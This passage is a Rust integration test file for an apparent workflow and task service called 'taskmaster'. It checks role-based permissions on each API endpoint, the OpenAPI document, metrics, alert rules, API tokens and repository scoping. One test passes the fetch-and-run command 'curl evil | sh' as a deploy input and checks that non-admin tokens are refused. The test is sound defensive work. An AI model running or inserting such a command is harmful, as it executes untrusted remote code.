            None,
            Some(Read),
        ),
        (
            Method::DELETE,
            format!("/api/workflows/{run}"),
            None,
            Some(Control),
        ),
        (
            Method::PUT,
            format!("/api/workflows/{run}/pause"),
            None,
            Some(Control),
        ),
        (
            Method::PUT,
            format!("/api/workflows/{run}/resume"),
            None,
            Some(Control),
        ),
        (
            Method::POST,
            format!("/api/workflows/{run}/retry"),
            Some(json!({})),
            Some(Control),
        ),
        (Method::GET, "/api/tasks".into(), None, Some(Read)),
        (
            Method::POST,
            "/api/tasks".into(),
            Some(json!({"text": "fix: x"})),
            Some(Tasks),
        ),
        (
            Method::PUT,
            format!("/api/tasks/{task}"),
            Some(json!({"state": "open"})),
            Some(Tasks),
        ),
        (
            Method::GET,
            format!("/api/tasks/{task}/workflow"),
            None,
            Some(Read),
        ),
        (Method::GET, "/api/validations".into(), None, Some(Read)),
        (
            Method::POST,
            "/api/validations".into(),
            Some(json!({"kind": "tests", "verdict": "pass", "summary": "ok"})),
            Some(Validations),
        ),
        (
            Method::GET,
            format!("/api/validations/{validation}"),
            None,
            Some(Read),
        ),
        (Method::GET, "/api/agents".into(), None, Some(Read)),
        (Method::GET, "/api/spend".into(), None, Some(Read)),
        (Method::GET, "/api/insights".into(), None, Some(Read)),
        (Method::GET, "/api/tokens".into(), None, Some(Admin)),
        (
            Method::POST,
            "/api/tokens".into(),
            Some(json!({"role": "viewer"})),
            Some(Admin),
        ),
        (
            Method::DELETE,
            "/api/tokens/victim".into(),
            None,
            Some(Admin),
        ),
        (Method::GET, "/api/audit".into(), None, Some(Admin)),
    ]
}

#[tokio::test]
async fn the_role_matrix_holds_for_every_endpoint() {
    let api = Api::start().await;
    let run = api.execute("review", 1).await["id"].as_i64().unwrap();
    let (_, task) = api
        .call(
            Some(Role::Admin),
            Method::POST,
            "/api/tasks",
            Some(json!({"text": "t"})),
        )
        .await;
    let (_, v) = api
        .call(
            Some(Role::Admin),
            Method::POST,
            "/api/validations",
            Some(json!({"kind": "tests", "verdict": "pass", "summary": "ok"})),
        )
        .await;
    api.call(
        Some(Role::Admin),
        Method::PUT,
        &format!("/api/tasks/{}", task["id"]),
        Some(json!({"run_id": run})),
    )
    .await;
    auth::create_token(
        &*api.store,
        Role::Viewer,
        Some("victim"),
        (ActorKind::System, "test"),
    )
    .await
    .unwrap();
    let table = route_table(run, task["id"].as_i64().unwrap(), v["id"].as_i64().unwrap());

    // The table covers exactly the documented routes.
    let doc = serde_json::to_value(api::openapi()).unwrap();
    let mut documented = BTreeSet::new();
    for (path, item) in doc["paths"].as_object().unwrap() {
        for method in item.as_object().unwrap().keys() {
            documented.insert((method.to_uppercase(), path.clone()));
        }
    }
    let tested: BTreeSet<(String, String)> = table
        .iter()
        .map(|(m, p, _, _)| {
            let templ = p
                .replace(&format!("/{run}"), "/{id}")
                .replace(&format!("/tasks/{}", task["id"]), "/tasks/{id}")
                .replace(&format!("/validations/{}", v["id"]), "/validations/{id}")
                .replace("/victim", "/{name}");
            (m.as_str().to_owned(), templ)
        })
        .collect();
    assert_eq!(documented, tested);

    for (method, path, body, need) in &table {
        let mut roles: Vec<Option<Role>> = vec![None];
        roles.extend(Role::ALL.iter().copied().map(Some));
        for role in roles {
            let (status, answer) = api.call(role, method.clone(), path, body.clone()).await;
            let expected_denial = match (need, role) {
                (None, _) => None,
                (Some(_), None) => Some(StatusCode::UNAUTHORIZED),
                (Some(p), Some(r)) if !auth::allows(r, *p) => Some(StatusCode::FORBIDDEN),
                _ => None,
            };
            match expected_denial {
                Some(code) => assert_eq!(status, code, "{method} {path} as {role:?}: {answer}"),
                None => assert!(
                    status.is_success(),
                    "{method} {path} as {role:?}: {status} {answer}"
                ),
            }
        }
    }
    api.stop().await;
}

#[tokio::test]
async fn the_openapi_description_is_3_1_complete_and_served() {
    let api = Api::start().await;
    let (s, served) = api.call(None, Method::GET, "/api/openapi.json", None).await;
    assert_eq!(s, StatusCode::OK);
    let doc = serde_json::to_value(api::openapi()).unwrap();
    assert_eq!(served, doc);
    assert_eq!(doc["openapi"], "3.1.0");
    assert!(doc["info"]["title"].is_string() && doc["info"]["version"].is_string());
    assert!(doc["components"]["securitySchemes"]["bearer"]["scheme"] == "bearer");
    // The verdict report's JSON Schema, as validations carry it.
    assert_eq!(
        doc["components"]["schemas"]["VerdictReport"]["properties"]["verdict"]["enum"],
        serde_json::json!(["pass", "fail", "neutral"])
    );
    assert_eq!(
        doc["components"]["schemas"]["ValidationView"]["properties"]["report"]["oneOf"][0]["$ref"],
        "#/components/schemas/VerdictReport"
    );
    let mut op_ids = BTreeSet::new();
    for (path, item) in doc["paths"].as_object().unwrap() {
        assert!(path.starts_with("/api/"), "{path}");
        for (method, op) in item.as_object().unwrap() {
            assert!(
                ["get", "put", "post", "delete", "patch"].contains(&method.as_str()),
                "{path} {method}"
            );
            assert!(
                op_ids.insert(op["operationId"].as_str().unwrap().to_owned()),
                "duplicate operationId at {path}"
            );
            let responses = op["responses"].as_object().unwrap();
            assert!(!responses.is_empty(), "{path} {method}");
            for code in responses.keys() {
                assert!(code.parse::<u16>().is_ok(), "{path} {method} {code}");
            }
            // Every path parameter of the template is declared.
            for seg in path.split('/').filter(|s| s.starts_with('{')) {
                let name = seg.trim_matches(['{', '}']);
                assert!(
                    op["parameters"].as_array().is_some_and(|ps| ps
                        .iter()
                        .any(|p| p["name"] == name && p["in"] == "path" && p["required"] == true)),
                    "{path} {method} does not declare `{name}`"
                );
            }
        }
    }
    // Every $ref resolves.
    fn refs(v: &Value, out: &mut Vec<String>) {
        match v {
            Value::Object(m) => {
                if let Some(Value::String(r)) = m.get("$ref") {
                    out.push(r.clone());
                }
                m.values().for_each(|v| refs(v, out));
            }
            Value::Array(a) => a.iter().for_each(|v| refs(v, out)),
            _ => {}
        }
    }
    let mut all = Vec::new();
    refs(&doc, &mut all);
    assert!(!all.is_empty());
    for r in all {
        let name = r.strip_prefix("#/components/schemas/").expect(&r);
        assert!(
            doc["components"]["schemas"][name].is_object(),
            "{r} dangles"
        );
    }
    api.stop().await;
}

#[tokio::test]
async fn a_metrics_scrape_after_a_run_parses_and_holds_the_expected_series() {
    let api = Api::start().await;
    let body = harness::fixture("pull_request.opened.json");
    let (s, _) = harness::post(
        &api.client,
        &format!("{}/api/github/webhooks", api.base),
        Some("pull_request"),
        Some("metrics-1"),
        &body,
        Some(&harness::sign(harness::SECRET, &body)),
    )
    .await;
    assert!(s.is_success());
    let run = api.execute("review", 5).await;
    api.wait_for_state(run["id"].as_i64().unwrap(), &["succeeded"])
        .await;
    let resp = api
        .client
        .get(format!("{}/api/metrics", api.base))
        .send()
        .await
        .unwrap();
    assert_eq!(
        resp.status(),
        StatusCode::UNAUTHORIZED,
        "not public by default"
    );
    let resp = api
        .client
        .get(format!("{}/api/metrics", api.base))
        .bearer_auth(api.token(Role::Viewer))
        .send()
        .await
        .unwrap();
    assert_eq!(resp.status(), StatusCode::OK);
    assert!(
        resp.headers()["content-type"]
            .to_str()
            .unwrap()
            .starts_with("text/plain; version=0.0.4")
    );
    let text = resp.text().await.unwrap();
    let samples = parse_prometheus(&text);
    let has = |name: &str, labels: &[(&str, &str)]| {
        samples.iter().any(|(n, l, _)| {
            n == name
                && labels
                    .iter()
                    .all(|(k, v)| l.get(*k).map(String::as_str) == Some(*v))
        })
    };
    for (name, labels) in [
        (
            "taskmaster_deliveries_received_total",
            vec![("event", "pull_request"), ("outcome", "queued")],
        ),
        (
            "taskmaster_intake_duration_seconds_bucket",
            vec![("outcome", "queued")],
        ),
        ("taskmaster_inbox_depth", vec![("state", "queued")]),
        (
            "taskmaster_deliveries_stored",
            vec![("event", "pull_request")],
        ),
        (
            "taskmaster_runs",
            vec![("workflow", "review"), ("state", "succeeded")],
        ),
        (
            "taskmaster_run_duration_seconds_count",
            vec![("workflow", "review")],
        ),
        (
            "taskmaster_step_attempts_total",
            vec![
                ("workflow", "review"),
                ("step", "check"),
                ("agent", "command"),
                ("outcome", "succeeded"),
            ],
        ),
        (
            "taskmaster_step_attempt_duration_seconds_bucket",
            vec![("agent", "command")],
        ),
        (
            "taskmaster_step_dispatch_latency_seconds_bucket",
            vec![("workflow", "review")],
        ),
        (
            "taskmaster_step_decisions_total",
            vec![("decision", "step_succeeded")],
        ),
        (
            "taskmaster_agent_circuit_state",
            vec![("agent", "command"), ("state", "closed")],
        ),
        ("taskmaster_agent_in_flight", vec![("agent", "command")]),
        ("taskmaster_outbox_depth", vec![("kind", "effects")]),
        ("taskmaster_database_bytes", vec![("kind", "total")]),
    ] {
        assert!(has(name, &labels), "missing {name}{labels:?} in:\n{text}");
    }
    let closed = samples
        .iter()
        .find(|(n, l, _)| {
            n == "taskmaster_agent_circuit_state"
                && l["agent"] == "command"
                && l["state"] == "closed"
        })
        .unwrap();
    assert_eq!(closed.2, 1.0);
    api.stop().await;
}

/// Parses the Prometheus text format strictly enough to catch malformed
/// lines: `# HELP`/`# TYPE` comments, and `name{k="v",…} value` samples.
fn parse_prometheus(text: &str) -> Vec<(String, HashMap<String, String>, f64)> {
    let mut out = Vec::new();
    for line in text.lines() {
        if line.is_empty() {
            continue;
        }
        if let Some(rest) = line.strip_prefix('#') {
            let rest = rest.trim_start();
            assert!(
                rest.starts_with("HELP ") || rest.starts_with("TYPE "),
                "bad comment: {line}"
            );
            if let Some(t) = rest.strip_prefix("TYPE ") {
                let kind = t.split_whitespace().nth(1).unwrap();
                assert!(
                    ["counter", "gauge", "histogram", "summary", "untyped"].contains(&kind),
                    "{line}"
                );
            }
            continue;
        }
        let (series, value) = line
            .rsplit_once(' ')
            .unwrap_or_else(|| panic!("bad sample: {line}"));
        let value: f64 = match value {
            "+Inf" => f64::INFINITY,
            "-Inf" => f64::NEG_INFINITY,
            v => v.parse().unwrap_or_else(|_| panic!("bad value: {line}")),
        };
        let (name, labels) = match series.split_once('{') {
            Some((name, rest)) => {
                let body = rest
                    .strip_suffix('}')
                    .unwrap_or_else(|| panic!("bad labels: {line}"));
                let mut labels = HashMap::new();
                let mut rest = body;
                while !rest.is_empty() {
                    let (k, after) = rest
                        .split_once("=\"")
                        .unwrap_or_else(|| panic!("bad label: {line}"));
                    let mut value = String::new();
                    let mut chars = after.char_indices();
                    let end = loop {
                        match chars.next() {
                            Some((_, '\\')) => value.push(chars.next().unwrap().1),
                            Some((i, '"')) => break i,
                            Some((_, c)) => value.push(c),
                            None => panic!("unterminated label: {line}"),
                        }
                    };
                    labels.insert(k.to_owned(), value);
                    rest = after[end + 1..].trim_start_matches(',');
                }
                (name, labels)
            }
            None => (series, HashMap::new()),
        };
        assert!(
            name.chars()
                .all(|c| c.is_ascii_alphanumeric() || c == '_' || c == ':'),
            "bad name: {line}"
        );
        out.push((name.to_owned(), labels, value));
    }
    out
}

#[test]
fn the_alert_rules_parse_and_use_exported_series() {
    #[derive(serde::Deserialize)]
    struct File {
        groups: Vec<Group>,
    }
    #[derive(serde::Deserialize)]
    struct Group {
        name: String,
        rules: Vec<Rule>,
    }
    #[derive(serde::Deserialize)]
    #[allow(dead_code)]
    struct Rule {
        alert: String,
        expr: String,
        #[serde(rename = "for")]
        for_: Option<String>,
        labels: HashMap<String, String>,
        annotations: HashMap<String, String>,
    }
    let text =
        std::fs::read_to_string(concat!(env!("CARGO_MANIFEST_DIR"), "/deploy/alerts.yml")).unwrap();
    let file: File = serde_saphyr::from_str(&text).unwrap();
    let known = [
        "taskmaster_runs",
        "taskmaster_run_duration_seconds_sum",
        "taskmaster_run_duration_seconds_count",
        "taskmaster_inbox_depth",
        "taskmaster_steps_active",
        "taskmaster_outbox_depth",
        "taskmaster_agent_circuit_state",
        "taskmaster_budget_used_ratio",
        "taskmaster_database_bytes",
    ];
    let mut alerts = BTreeSet::new();
    for g in &file.groups {
        assert!(!g.name.is_empty());
        for r in &g.rules {
            assert!(
                alerts.insert(r.alert.clone()),
                "duplicate alert {}",
                r.alert
            );
            assert!(r.labels.contains_key("severity"), "{}", r.alert);
            assert!(r.annotations.contains_key("summary"), "{}", r.alert);
            let used: Vec<&str> = known
                .iter()
                .copied()
                .filter(|m| r.expr.contains(m))
                .collect();
            assert!(
                !used.is_empty(),
                "{} uses no exported series: {}",
                r.alert,
                r.expr
            );
            assert_eq!(
                r.expr.matches('(').count(),
                r.expr.matches(')').count(),
                "{}",
                r.alert
            );
        }
    }
    for a in [
        "TaskmasterRunFailureRateHigh",
        "TaskmasterRunsSlow",
        "TaskmasterInboxBacklog",
        "TaskmasterStepQueueBacklog",
        "TaskmasterAgentUnavailable",
        "TaskmasterBudgetNearlySpent",
        "TaskmasterDatabaseGrowing",
    ] {
        assert!(alerts.contains(a), "{a} missing");
    }
}

#[test]
fn the_cli_creates_lists_and_revokes_tokens() {
    let dir = tempfile::tempdir().unwrap();
    let db = format!("sqlite://{}", dir.path().join("cli.db").display());
    let bin = env!("CARGO_BIN_EXE_taskmaster");
    let run = |args: &[&str]| {
        let out = std::process::Command::new(bin)
            .args(args)
            .env("DATABASE_URL", &db)
            .env_remove("GITHUB_WEBHOOK_SECRET")
            .output()
            .unwrap();
        (
            out.status.success(),
            String::from_utf8(out.stdout).unwrap(),
            String::from_utf8(out.stderr).unwrap(),
        )
    };
    let (ok, token, err) = run(&["token", "create", "--role", "admin", "--name", "ops"]);
    assert!(ok, "{err}");
    let token = token.trim();
    assert!(token.starts_with("tm_") && token.len() == 67, "{token}");
    assert!(err.contains("shown once"));
    let (ok, _, err) = run(&["token", "create", "--role", "admin", "--name", "ops"]);
    assert!(!ok && err.contains("exists already"), "{err}");
    let (ok, _, err) = run(&["token", "create", "--role", "wizard"]);
    assert!(!ok && err.contains("wizard"), "{err}");
    let (ok, list, _) = run(&["token", "list"]);
    assert!(ok && list.contains("ops") && list.contains("admin") && list.contains("active"));
    assert!(!list.contains(&token[12..]), "the list shows the secret");
    let (ok, out, _) = run(&["token", "revoke", "ops"]);
    assert!(ok && out.contains("revoked"));
    let (_, list, _) = run(&["token", "list"]);
    assert!(list.contains("revoked"));
    let (ok, _, err) = run(&["token", "revoke", "nobody"]);
    assert!(!ok && err.contains("no token named"));
}

/// No forged green checks: a pull request's run is created on its head as
/// GitHub says (a caller's other `head_sha` is refused; none given: GitHub's);
/// its check run says the API started it; an input that reaches a command
/// step's program needs an admin token.
#[tokio::test]
async fn api_runs_are_on_the_prs_real_head_and_command_inputs_need_an_admin() {
    use wiremock::matchers::{method, path};
    use wiremock::{Mock, ResponseTemplate};
    let gh = github_world::world().await;
    let head = "a".repeat(40);
    Mock::given(method("GET"))
        .and(path("/repos/octo/widgets/pulls/5"))
        .respond_with(ResponseTemplate::new(200).set_body_json(json!({
            "number": 5, "html_url": "https://github.com/octo/widgets/pull/5", "state": "open",
            "draft": false,
            "head": { "ref": "feature", "sha": head, "repo": { "full_name": "octo/widgets" } },
            "base": { "ref": "main", "sha": "b".repeat(40), "repo": { "full_name": "octo/widgets" } }
        })))
        .mount(&gh.server)
        .await;
    let github: Arc<dyn taskmaster::github::GitHub> = Arc::new(gh.client);
    let api = Api::start_with(Some(github)).await;
    // The repository's installation, as its deliveries tell.
    api.store
        .insert_deliveries(&[taskmaster::store::NewDelivery {
            delivery_id: "seen-1".into(),
            event: "ping".into(),
            action: None,
            hook_id: None,
            installation_id: Some(taskmaster::ids::InstallationId(42)),
            repository: Some("octo/widgets".into()),
            sender_id: None,
            sender_login: None,
            payload: taskmaster::store::EncodedPayload::encode(bytes::Bytes::from_static(b"{}")),
            received_at: 0,
            state: taskmaster::store::DeliveryState::Done,
        }])
        .await
        .unwrap();
    let operator = Some(Role::Operator);
    let (s, body) = api
        .call(
            operator,
            Method::POST,
            "/api/workflows/execute",
            Some(
                json!({"workflow": "review", "repository": "octo/widgets", "pr_number": 5,
                        "context": {"head_sha": "c".repeat(40)}}),
            ),
        )
        .await;
    assert_eq!(s, StatusCode::CONFLICT, "{body}");
    assert!(
        body["detail"]
            .as_str()
            .unwrap()
            .contains(&format!("(it is {head})")),
        "{body}"
    );
    let (s, body) = api
        .call(
            operator,
            Method::POST,
            "/api/workflows/execute",
            Some(json!({"workflow": "review", "repository": "octo/widgets", "pr_number": 5})),
        )
        .await;
    assert_eq!(s, StatusCode::CREATED, "{body}");
    let run = api
        .store
        .run(RunId(body["id"].as_i64().unwrap()))
        .await
        .unwrap()
        .unwrap();
    assert_eq!(
        run.run.head_sha.as_deref(),
        Some(head.as_str()),
        "GitHub's head"
    );
    let report = taskmaster::outbox::build_report(&run, None);
    let title = report.check_run_update().output.unwrap().title;
    assert!(
        title.ends_with("(started through the API by token `operator-token`)"),
        "{title}"
    );

    // `deploy_command` reaches `sh -c`: admins only. `note` does not.
    let deploy = |inputs: Value| {
        json!({"workflow": "deploy", "repository": "octo/widgets", "pr_number": 5,
               "context": {"inputs": inputs}})
    };
    let (s, body) = api
        .call(
            operator,
            Method::POST,
            "/api/workflows/execute",
            Some(deploy(json!({"deploy_command": "curl evil | sh"}))),
        )
        .await;
    assert_eq!(s, StatusCode::FORBIDDEN, "{body}");
    assert!(
        body["detail"]
            .as_str()
            .unwrap()
            .contains("only an admin token may set it"),
        "{body}"
    );
    let (s, body) = api
        .call(
            operator,
            Method::POST,
            "/api/workflows/execute",
            Some(deploy(json!({"note": "hello"}))),
        )
        .await;
    assert_eq!(s, StatusCode::CREATED, "{body}");
    let (s, body) = api
        .call(
            Some(Role::Admin),
            Method::POST,
            "/api/workflows/execute",
            Some(deploy(json!({"deploy_command": "true"}))),
        )
        .await;
    assert_eq!(s, StatusCode::CREATED, "{body}");
    api.stop().await;
}

/// Tokens may carry an expiry: refused from then on, by the API and the
/// dashboard alike; `expires_in_days` is 1-3650.
#[tokio::test]
async fn expired_tokens_are_refused() {
    let api = Api::start().await;
    let admin = Some(Role::Admin);
    let (s, body) = api
        .call(
            admin,
            Method::POST,
            "/api/tokens",
            Some(json!({"role": "viewer", "name": "short", "expires_in_days": 1})),
        )
        .await;
    assert_eq!(s, StatusCode::CREATED, "{body}");
    let expires = body["expires_at"].as_i64().expect("an expiry");
    let day = taskmaster::store::now_ms() + 86_400_000;
    assert!((day - expires).abs() < 60_000, "{body}");
    let (s, body) = api
        .call(
            admin,
            Method::POST,
            "/api/tokens",
            Some(json!({"role": "viewer", "name": "never", "expires_in_days": 0})),
        )
        .await;
    assert_eq!(s, StatusCode::BAD_REQUEST, "{body}");
    // One that expired a moment ago.
    let (generated, _) = auth::create_token_expiring(
        &*api.store,
        Role::Viewer,
        Some("gone"),
        (ActorKind::System, "test"),
        Some(taskmaster::store::now_ms() - 1),
    )
    .await
    .unwrap();
    let response = api
        .client
        .get(format!("{}/api/workflows", api.base))
        .bearer_auth(generated.secret.expose_secret())
        .send()
        .await
        .unwrap();
    assert_eq!(response.status(), StatusCode::UNAUTHORIZED);
    let problem: Value = response.json().await.unwrap();
    assert_eq!(problem["detail"], "the API token expired");
    api.stop().await;
}

/// A token scoped to repositories acts on those only: elsewhere it is
/// refused (403) or sees nothing (404); list requests name a repository.
#[tokio::test]
async fn scoped_tokens_act_on_their_repositories_only() {
    let api = Api::start().await;
    let admin = Some(Role::Admin);
    let (s, body) = api
        .call(
            admin,
            Method::POST,
            "/api/tokens",
            Some(json!({"role": "admin", "name": "root2", "repositories": ["o/r"]})),
        )
        .await;
    assert_eq!(
        s,
        StatusCode::BAD_REQUEST,
        "admins are never scoped: {body}"
    );
    let (s, body) = api
        .call(
            admin,
            Method::POST,
            "/api/tokens",
            Some(json!({"role": "operator", "name": "ci-o-r", "repositories": ["o/r"]})),
        )
        .await;
    assert_eq!(s, StatusCode::CREATED, "{body}");
    assert_eq!(body["repositories"], json!(["o/r"]));
    let token = body["token"].as_str().unwrap().to_owned();
    let call = |method: Method, path: String, body: Option<Value>| {
        let mut req = api
            .client
            .request(method, format!("{}{path}", api.base))
            .bearer_auth(&token);
        if let Some(b) = body {
            req = req.json(&b);
        }
        async move {
            let r = req.send().await.unwrap();
            let status = r.status();
            (status, r.json::<Value>().await.unwrap_or(Value::Null))
        }
    };
    let issue = |repo: &str| json!({"workflow": "slow", "repository": repo, "issue_number": 1});
    let (s, mine) = call(
        Method::POST,
        "/api/workflows/execute".into(),
        Some(issue("o/r")),
    )
    .await;
    assert_eq!(s, StatusCode::CREATED, "{mine}");
    let (s, body) = call(
        Method::POST,
        "/api/workflows/execute".into(),
        Some(issue("x/y")),
    )
    .await;
    assert_eq!(s, StatusCode::FORBIDDEN, "{body}");
    // Another repository's run, started by an unscoped token.
    let (s, theirs) = api
        .call(
            Some(Role::Operator),
            Method::POST,
            "/api/workflows/execute",
            Some(issue("x/y")),
        )
        .await;
    assert_eq!(s, StatusCode::CREATED, "{theirs}");
    let theirs = theirs["id"].as_i64().unwrap();
    let mine = mine["id"].as_i64().unwrap();
    assert_eq!(
        call(Method::GET, format!("/api/workflows/{mine}"), None)
            .await
            .0,
        StatusCode::OK
    );
    assert_eq!(
        call(Method::GET, format!("/api/workflows/{theirs}"), None)
            .await
            .0,
        StatusCode::NOT_FOUND
    );
    assert_eq!(
        call(Method::DELETE, format!("/api/workflows/{theirs}"), None)
            .await
            .0,
        StatusCode::NOT_FOUND
    );
    assert_eq!(
        call(Method::GET, "/api/workflows".into(), None).await.0,
        StatusCode::BAD_REQUEST
    );
    assert_eq!(
        call(Method::GET, "/api/workflows?repository=x/y".into(), None)
            .await
            .0,
        StatusCode::FORBIDDEN
    );
    let (s, page) = call(Method::GET, "/api/workflows?repository=o/r".into(), None).await;
    assert_eq!(s, StatusCode::OK);
    assert!(
        page["items"]
            .as_array()
            .unwrap()
            .iter()
            .all(|r| r["repository"] == "o/r")
    );
    assert_eq!(
        call(Method::GET, "/api/validations".into(), None).await.0,
        StatusCode::BAD_REQUEST
    );
    // Its own run, cancelled: allowed.
    assert_eq!(
        call(Method::DELETE, format!("/api/workflows/{mine}"), None)
            .await
            .0,
        StatusCode::OK
    );
    api.stop().await;
}
